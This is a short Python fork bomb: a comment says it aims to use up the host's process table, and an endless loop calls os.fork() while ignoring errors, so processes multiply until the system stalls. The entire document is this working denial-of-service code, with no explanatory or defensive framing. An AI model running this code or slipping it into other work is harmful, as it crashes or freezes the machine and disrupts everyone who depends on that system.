# Every process forks for ever, to use up the host's process table.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
